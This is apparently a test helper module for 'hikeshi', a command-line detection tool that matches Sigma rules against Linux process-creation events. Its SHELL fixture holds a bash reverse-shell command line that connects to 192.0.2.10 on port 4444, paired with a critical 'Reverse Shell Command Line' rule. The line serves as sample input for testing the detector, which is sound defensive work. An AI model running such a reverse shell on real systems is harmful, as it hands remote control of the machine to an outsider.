// Runs the program as a person does, in a folder that is gone afterwards.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after } from 'node:test';

export const TOP = resolve(dirname(new URL(import.meta.url).pathname), '../..');
export const BIN = resolve(process.env.HIKESHI_BIN ?? join(TOP, 'out/bin'));
export const HIKESHI = join(BIN, 'hikeshi');
export const RULES = join(TOP, 'rules/sigma');

export const folder = mkdtempSync(join(tmpdir(), 'hikeshi-cli-'));
chmodSync(folder, 0o755);
after(() => rmSync(folder, { recursive: true, force: true }));

/* No setting of whoever runs the tests shall matter. */
export const environment = { PATH: process.env.PATH, HOME: folder, LANG: 'C.UTF-8', ASAN_OPTIONS: process.env.ASAN_OPTIONS ?? '' };

/** Writes a file of the test's folder and returns its path. */
export function file(name, content) {
	const path = join(folder, name);
	mkdirSync(dirname(path), { recursive: true });
	writeFileSync(path, typeof content === 'string' || Buffer.isBuffer(content) ? content
		: content.map((line) => `${typeof line === 'string' ? line : JSON.stringify(line)}\n`).join(''));
	return path;
}

/** Runs hikeshi; resolves to {status, signal, out, err}. */
export function hikeshi(args, { input = '', env = {}, ...more } = {}) {
	const done = spawnSync(HIKESHI, args, { input, encoding: 'utf8', maxBuffer: 1 << 28, timeout: 60000, cwd: folder,
		env: { ...environment, ...env }, ...more });
	assert.equal(done.error, undefined, `${HIKESHI}: ${done.error}`);
	return { status: done.status, signal: done.signal, out: done.stdout, err: done.stderr };
}

/** The same in English, with the status that it must have. */
export function english(status, args, more) {
	const done = hikeshi(['--lang', 'en', ...args], more);
	assert.equal(done.status, status, `hikeshi ${args.join(' ')}\n${done.out.slice(0, 2000)}\n${done.err}`);
	return done;
}

/** A line of the shell with $HIKESHI. */
export function shell(line, env = {}) {
	const done = spawnSync('bash', ['-c', line], { encoding: 'utf8', maxBuffer: 1 << 28, timeout: 60000, cwd: folder,
		env: { ...environment, HIKESHI, ...env } });
	return { status: done.status, out: done.stdout, err: done.stderr };
}

/** What a terminal gets of a line of the shell: stdout and stderr are one. */
export function terminal(line, env = {}) {
	return shell('script --quiet --return --command "$LINE" /dev/null </dev/null', { LINE: line, TERM: 'xterm', ...env });
}

export const lines = (text) => text.split('\n').filter(Boolean);
export const objects = (text) => lines(text).map((line) => JSON.parse(line));

/** A process that starts, as our agent tells it. */
export function started(image, commandLine, more = {}) {
	const { hikeshi: envelope, ...fields } = more;
	return {
		hikeshi: { product: 'linux', category: 'process_creation', observed: '2026-11-21T01:02:03.456789Z', ...envelope },
		Image: image, CommandLine: commandLine, ...fields,
	};
}

export const SHELL = started('/usr/bin/bash', 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1');
export const SHELL_RULE = { id: '14bccaac-85f5-56c0-a489-e6018b5908af', title: 'Reverse Shell Command Line', level: 'critical' };
export const HARMLESS = started('/usr/bin/ls', 'ls -l');

/** A rule of the tests; detection is YAML, indented by four. */
export function rule(title, detection, { level = 'high', logsource = 'product: linux\n    category: process_creation' } = {}) {
	const id = createHash('sha256').update(title).digest('hex').replace(/^(.{8})(.{4})(.{4})(.{4})(.{12}).*/, '$1-$2-$3-$4-$5');
	return `title: ${title}\nid: ${id}\nlogsource:\n    ${logsource}\ndetection:\n${detection}\nlevel: ${level}\n`;
}
